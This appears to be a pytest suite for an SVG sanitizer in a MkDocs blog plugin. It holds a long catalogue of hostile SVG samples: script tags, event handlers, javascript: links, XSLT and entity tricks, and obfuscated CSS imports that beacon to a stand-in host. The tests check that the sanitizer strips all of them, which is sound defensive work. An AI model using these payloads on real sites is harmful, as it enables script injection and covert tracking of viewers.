"""SVGs from people one does not know: their copies draw, and can neither run, open nor fetch anything."""

from __future__ import annotations

import gzip
import html
import re
import time
from pathlib import Path
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from mkdocs_blogposts.publishing.images.decoding import UnreadableImage
from mkdocs_blogposts.publishing.images.svg_images import sanitize_svg

NAMESPACES = (
    'xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml" '
    'xmlns:ev="http://www.w3.org/2001/xml-events" width="40" height="30"'
)
ELSEWHERE = "http://elsewhere.example"
RUN = f"new Image().src='{ELSEWHERE}/ran'"
XSLT = (
    '<xsl:stylesheet id="t" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
    'xmlns:h="http://www.w3.org/1999/xhtml"><xsl:template match="/">'
    f'<h:html><h:script>{RUN}</h:script></h:html></xsl:template></xsl:stylesheet>'
)  # fmt: skip


def svg(inside: str = "", attributes: str = "", before: str = "") -> str:
    return f'{before}<svg {NAMESPACES} {attributes}><rect width="40" height="30" fill="#345"/>{inside}</svg>'


def foreign(inside: str) -> str:
    return svg(f'<foreignObject width="40" height="30">{inside}</foreignObject>')


RUNNING = {
    "script": svg(f"<script>{RUN}</script>"),
    "script as HTML": svg(f"<h:script>{RUN}</h:script>"),
    "script as HTML, not of SVG": svg(f'<g><script xmlns="http://www.w3.org/1999/xhtml">{RUN}</script></g>'),
    "script from elsewhere": svg(f'<script x:href="{ELSEWHERE}/a.js"/>'),
    "script in a data address": svg(f'<script href="data:text/javascript,{html.escape(RUN)}"/>'),
    "script in a symbol": svg(f"<symbol><g><script>{RUN}</script></g></symbol>"),
    "script in CDATA": svg(f"<script><![CDATA[{RUN}]]></script>"),
    "onload": svg(attributes=f'onload="{RUN}"'),
    "onload of a part": svg(f'<g onload="{RUN}"/>'),
    "onerror of a picture": svg(f'<image href="data:image/png,x" onerror="{RUN}"/>'),
    "onerror of an HTML picture": foreign(f'<h:img src="nothing.png" onerror="{RUN}"/>'),
    "onbegin": svg(f'<animate attributeName="x" dur="1s" onbegin="{RUN}"/>'),
    "focus": svg(f'<g tabindex="0" autofocus="autofocus" onfocus="{RUN}"/>'),
    "set onload": svg(f'<set attributeName="onload" to="{RUN}"/>', attributes=f'onload="{RUN}"'),
    "srcdoc": svg(f'<h:iframe srcdoc="&lt;script>{RUN}&lt;/script>"/>'),
    "iframe": svg(f'<h:iframe src="{ELSEWHERE}/page"/>'),
    "iframe of javascript": svg(f'<h:iframe src="javascript:{RUN}"/>'),
    "frame": svg(f'<h:frameset><h:frame src="{ELSEWHERE}/page"/></h:frameset>'),
    "object": svg(f'<h:object data="{ELSEWHERE}/page"/>'),
    "embed": svg(f'<h:embed src="{ELSEWHERE}/page"/>'),
    "refresh": svg(f'<h:meta http-equiv="refresh" content="0;url={ELSEWHERE}/page"/>'),
    "base": svg(f'<h:base href="{ELSEWHERE}/"/><image href="ran.png"/>'),
    "form": foreign(f'<h:form action="{ELSEWHERE}/page"><h:button id="b" autofocus="" onfocus="{RUN}"/></h:form>'),
    "XSLT beside": svg(XSLT, before='<?xml-stylesheet type="text/xsl" href="#t"?>'),
    "XSLT called CSS": svg(XSLT, before='<?xml-stylesheet type="text/xsl" title="css" href="#t"?>'),
    "XSLT as XML": svg(XSLT, before='<?xml-stylesheet href="#t" type="application/xml" media="css"?>'),
    "XSLT from data": svg(before=f'<?xml-stylesheet type="text/xsl" href="data:text/xml,{html.escape(XSLT)}#css"?>'),
    "XSLT below the picture": svg() + f'<?xml-stylesheet type="text/xsl" href="data:text/xml,{quote(XSLT)}"?>',
    "entity": svg("&s;", before=f'<!DOCTYPE svg [<!ENTITY s "<script>{RUN}</script>">]>'),
    "entity for a namespace": svg(
        f"<q:script xmlns:q='&n;'>{RUN.replace(chr(39), chr(34))}</q:script>",
        before='<!DOCTYPE svg [<!ENTITY n "http://www.w3.org/1999/xhtml">]>',
    ),
    "at the end of a motion": svg(f'<animate attributeName="x" dur="0.01s" onend="{RUN}"/>'),
    "ATTLIST": svg(before=f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{RUN}">]>'),
}
"""What runs script or leads away in a file that is opened by itself."""

CALLING = {
    "@import": svg(f"<style>@import url({ELSEWHERE}/a.css);</style>"),
    "@import of a text": svg(f'<style>@import "{ELSEWHERE}/a.css";</style>'),
    "@import in escapes": svg(f'<style>@\\69mport "{ELSEWHERE}/a.css";</style>'),
    "@import in a comment": svg(f'<style>/**/@import/**/"{ELSEWHERE}/a.css";</style>'),
    "@import behind a comment": svg(f'<style><!-- x -->@import "{ELSEWHERE}/a.css";</style>'),
    "@import in pieces": svg(f'<style>@im<!-- x -->port<?y z?> "{ELSEWHERE}/a.css";</style>'),
    "@import in CDATA": svg(f'<style><![CDATA[@import "{ELSEWHERE}/a.css";]]></style>'),
    "url in a style sheet": svg(f"<style>svg {{ background: url({ELSEWHERE}/a.png) }}</style>"),
    "url in escapes": svg(f"<style>svg {{ background: \\75rl({ELSEWHERE}/a.png) }}</style>"),
    "url in a style": svg(attributes=f'style="background: url({ELSEWHERE}/a.png)"'),
    "url with blanks": svg(attributes=f'style="background: url(  &#39;{ELSEWHERE}/a.png&#39; )"'),
    "image-set": svg(attributes=f'style="background: image-set(&quot;{ELSEWHERE}/a.png&quot; 1x)"'),
    "-webkit-image-set": svg(f"<style>svg {{ background: -webkit-image-set(url({ELSEWHERE}/a.png) 1x) }}</style>"),
    "a variable": svg(f"<style>svg {{ --a: url({ELSEWHERE}/a.png); background: var(--a) }}</style>"),
    "a font": svg(f"<text>a</text><style>@font-face {{ font-family: f; src: url({ELSEWHERE}/f.woff) }} "
                  "text { font-family: f }</style>"),
    "a cursor": svg(f'<rect cursor="url({ELSEWHERE}/a.png), auto" width="9" height="9"/>'),
    "image": svg(f'<image href="{ELSEWHERE}/a.png" width="9" height="9"/>'),
    "image of XLink": svg(f'<image x:href="{ELSEWHERE}/a.png" width="9" height="9"/>'),
    "image without a scheme": svg('<image href="//elsewhere.example/a.png" width="9" height="9"/>'),
    "image of the same host": svg('<image href="/secret.png" width="9" height="9"/>'),
    "image in a set": svg(f'<image width="9" height="9"><set attributeName="href" to="{ELSEWHERE}/a.png"/></image>'),
    "image in an animation": svg('<image width="9" height="9"><animate attributeName="href" dur="1s" '
                                 f'values="{ELSEWHERE}/a.png;{ELSEWHERE}/b.png"/></image>'),
    "feImage": svg(f'<filter id="f"><feImage href="{ELSEWHERE}/a.png"/></filter>'
                   '<rect filter="url(#f)" width="9" height="9"/>'),
    "use": svg(f'<use href="{ELSEWHERE}/a.svg#b"/>'),
    "a filter from elsewhere": svg(f'<rect filter="url({ELSEWHERE}/a.svg#f)" width="9" height="9"/>'),
    "an HTML picture": foreign(f'<h:img src="{ELSEWHERE}/a.png"/>'),
    "an HTML link": svg(f'<h:link rel="stylesheet" href="{ELSEWHERE}/a.css"/>'),
    "an HTML film": foreign(f'<h:video src="{ELSEWHERE}/a.mp4" poster="{ELSEWHERE}/a.png"/>'),
    "CSS of another file": svg(before=f'<?xml-stylesheet type="text/css" href="{ELSEWHERE}/a.css"?>'),
    "an entity in a link": svg('<image href="&h;/a.png"/>', before=f'<!DOCTYPE svg [<!ENTITY h "{ELSEWHERE}">]>'),
    "an entity in CSS": svg('<style>@im&p;rt "/a.css";</style>', before='<!DOCTYPE svg [<!ENTITY p "po">]>'),
    "ATTLIST of a link": svg("<image/>", before=f'<!DOCTYPE svg [<!ATTLIST image href CDATA "{ELSEWHERE}/a.png">]>'),
    "an HTML sound": svg(f'<q:audio xmlns:q="http://www.w3.org/1999/xhtml" src="{ELSEWHERE}/a.mp3" autoplay=""/>'),
    "an HTML body": svg(f'<h:body background="{ELSEWHERE}/a.png"/>'),
    "HTML in metadata": svg(f'<metadata><h:link rel="stylesheet" href="{ELSEWHERE}/a.css"/></metadata>'),
    "escapes across lines": svg(f'<style>@\\69&#13;&#10;mport "{ELSEWHERE}/a.css";</style>'),
    "cross-fade": svg(f"<style>svg {{ background: -webkit-cross-fade(url({ELSEWHERE}/a.png), none, 1%) }}</style>"),
    "a style in a style": svg(f'<style><style>@import "{ELSEWHERE}/a.css";</style></style>'),
    "xml:base": svg('<image href="a.png" width="9" height="9"/>', attributes=f'xml:base="{ELSEWHERE}/"'),
}  # fmt: skip
"""What fetches something of another host, or of this one."""

CLICKED = {
    "a link of javascript": svg('<a href="javascript:x()"><rect/></a>'),
    "a link of XLink": svg('<a x:href=" java&#10;script:x()"><rect/></a>'),
    "a link that is set": svg('<a><set attributeName="href" to="javascript:x()"/><rect/></a>'),
    "a link of XLink that is set": svg('<a><animate attributeName="x:href" values="javascript:x()"/><rect/></a>'),
    "a link that tells another host": svg(f'<a href="#a" ping="{ELSEWHERE}/"><rect id="a"/></a>'),
    "a link elsewhere": svg(f'<a href="{ELSEWHERE}/"><rect/></a>'),
    "a listener": svg('<ev:listener event="click" handler="#a"/><handler type="text/javascript">x()</handler>'),
}
ATTACKS = {**RUNNING, **CALLING, **CLICKED}

HARMLESS = {
    "a gradient": svg('<linearGradient id="a"><stop offset="0"/></linearGradient><rect fill="url(#a)"/>'),
    "a quoted gradient": svg("<style>rect { fill: url('#a') } /* a (comment) */</style>"),
    "a picture inside": svg('<image x:href="data:image/png;base64,AAAA"/>'),
    "a part shown twice": svg('<g id="a"><path d="M0 0"/></g><use href="#a"/><use x:href="#a"/>'),
    "a font inside": svg("<style>@font-face { font-family: f; src: url(data:font/woff2;base64,AA) }</style>"),
    "motion": svg('<animate attributeName="opacity" values="0;1" dur="1s"/>'),
    "a media query": svg("<style>@media (prefers-color-scheme: dark) { rect { fill: #fff } }</style>"),
    "of a drawing program": svg('<metadata><r:RDF xmlns:r="r"/></metadata><i:view xmlns:i="i" i:href="x"/>'),
    "a doctype": svg(before='<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://127.0.0.1:9/svg11.dtd">'),
    "words": svg("<title>on the sea</title><text>javascript is a word</text>"),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_the_copy_of_an_attack_is_a_drawing_of_which_nothing_more_is_to_be_taken(name):
    first = sanitize_svg(ATTACKS[name].encode())
    assert first.losses or name == "a link elsewhere"
    if first.data:
        again = sanitize_svg(first.data)
        assert (again.data, again.losses) == (b"", ())
        assert b"elsewhere" not in first.data.replace(b"elsewhere.example/ran'", b"")
        assert etree.fromstring(first.data).find("{http://www.w3.org/2000/svg}rect") is not None
    assert first.size == (40, 30)


@pytest.mark.parametrize("name", RUNNING)
def test_what_runs_or_leads_away_is_not_shown_in_a_text_either(name):
    assert sanitize_svg(RUNNING[name].encode()).live


@pytest.mark.parametrize("name", HARMLESS)
def test_a_drawing_is_shown_as_it_lies(name):
    clean = sanitize_svg(HARMLESS[name].encode())
    assert (clean.data, clean.losses, clean.size) == (b"", (), (40, 30))


def test_a_file_that_a_browser_may_read_otherwise_is_copied():
    text = '<?xml version="1.0" encoding="{}"?>' + svg()
    for encoding in ("utf-16", "iso-8859-1", "utf-7", "iso-2022-jp", "shift_jis", "hz"):
        assert sanitize_svg(text.format(encoding).encode(encoding)).data.startswith(b"<?xml"), encoding
    assert sanitize_svg(text.format("utf-8").encode()).data == b""


@pytest.mark.parametrize(
    "data",
    [
        gzip.compress(svg().encode()),
        f"<!doctype html>{svg()}".encode(),
        b"\x89PNG\r\n\x1a\n" + svg().encode(),
        b"GIF89a=1;" + svg().encode(),
        svg("<g\0/>").encode(),
        f'<?xml version="1.0" encoding="x-user-defined"?>{svg()}'.encode(),
    ],
)
def test_what_is_an_image_of_two_kinds_or_of_none_is_refused(data):
    with pytest.raises(UnreadableImage):
        sanitize_svg(data)


@given(st.lists(st.sampled_from(sorted(ATTACKS)), max_size=4), st.text(max_size=20))
@settings(max_examples=150)
def test_attacks_in_attacks(names, words):
    """However they are put into each other, what comes out has nothing more to be taken."""
    inside = html.escape("".join(letter for letter in words if letter.isprintable()))
    for name in names:
        begin = ATTACKS[name].index("<svg")
        inside = f'<g class="{html.escape(name)}">{ATTACKS[name][begin:]}{inside}</g>'
        inside = re.sub("&[a-z];", "x", inside)
    clean = sanitize_svg(svg(inside).encode())
    assert sanitize_svg(clean.data or svg(inside).encode()).losses == ()


def test_hostile_css_costs_no_time():
    began = time.process_time()
    for css in ("url(" * 200_000, "/*" * 200_000, "@import" * 100_000, "\\75" * 200_000, "url('" * 100_000):
        clean = sanitize_svg(svg(f"<style>{css}</style>").encode())
        assert b"url(" not in clean.data
    assert time.process_time() - began < 5


def test_copies_are_shown_and_run_nothing_in_a_browser(site, browser):
    """Each copy is opened by itself, where it could do most; the same files as they were show that the attacks are
    real.
    """
    files = {f"docs/blog/a{n}.svg": text for n, text in enumerate(ATTACKS.values())}
    posts = {
        f"docs/blog/p{n}.md": f"---\ntitle: P{n}\ndate: 2024-01-01\nimage: a{n}.svg\nalt: A\n---\n\nText."
        for n in range(len(ATTACKS))
    }
    built = site({"docs/index.md": "# Home", **files, **posts}, options={"per_page": 0}).build()
    copies = {}
    for n in range(len(ATTACKS)):
        shown = {image["src"].rpartition("/")[2] for image in built.page(f"blog/p{n}/").all("img.bp-featured-image")}
        assert len(shown) == 1
        copies[n] = next(file for file in built.files if file.endswith(f"/{min(shown)}"))
    feeds = built.read("blog/rss.xml") + built.read("blog/index.html")
    assert all(feeds.count(f"blog/a{n}.svg") == 0 for n, file in copies.items() if file != f"blog/a{n}.svg")
    page = browser.open(built, "")
    root = page.url
    assert asked(page, {name: f"{root}{copies[n]}" for n, name in enumerate(ATTACKS)}) == {}
    live = asked(page, {name: f"{root}blog/a{n}.svg" for n, name in enumerate(ATTACKS)})
    print("attacks", len(ATTACKS), "run or call as they are:", len(live))  # noqa: T201
    assert len(live) > 45
    browser.troubles.clear()


def asked(page, files: dict[str, str]) -> dict[str, list[str]]:
    """What a browser fetches when it opens each of some files by itself, in a frame: by their names, beside the files.

    Nothing that they ask for is answered.
    """
    page = page.context.new_page()
    names, own, asked = {url: name for name, url in files.items()}, {}, {}

    def note(request) -> None:
        frame = request.frame
        while frame.parent_frame and frame.parent_frame.parent_frame:
            frame = frame.parent_frame
        if frame not in own and request.url in names:  # the file itself
            own[frame] = names[request.url]
        elif not request.url.endswith("/favicon.ico"):
            asked.setdefault(own.get(frame), []).append(request.url)

    page.on("request", note)
    page.set_content("".join(f'<iframe src="{url}"></iframe>' for url in files.values()))
    page.wait_for_timeout(2000)
    page.close()
    return asked


def test_originals_are_shown_only_where_asked_for(site):
    post = "---\ntitle: P\ndate: 2024-01-01\nimage: a.svg\nalt: A\n---\n\nText."
    drawn = {"docs/index.md": "# Home", "docs/blog/a.svg": RUNNING["onload"], "docs/blog/p.md": post}
    built = site(drawn).build()
    assert built.page("blog/p/").one(".bp-post img")["src"].startswith("../../assets/blogposts/a-")
    assert any("'a.svg' holds more than a drawing: onload." in note for note in built.notes)
    built = site(drawn, options={"sanitize_svg": False}).build()
    assert built.page("blog/p/").one(".bp-post img")["src"].endswith("a.svg")


def test_a_bomb_is_refused():
    with pytest.raises(UnreadableImage, match="again and again"):
        sanitize_svg(svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>').encode())


def test_each_line_of_the_threat_model_has_a_test():
    tests = Path(__file__).parent
    page = (tests.parent / "docs" / "reference" / "security.md").read_text(encoding="utf-8")
    rows = [line for line in page.splitlines() if line.startswith("| ")][2:]
    assert len(rows) >= 15
    for row in rows:
        named = re.findall(r"`(test_\w+\.py)`", row)
        assert named, row
        assert all((tests / name).is_file() for name in named), row
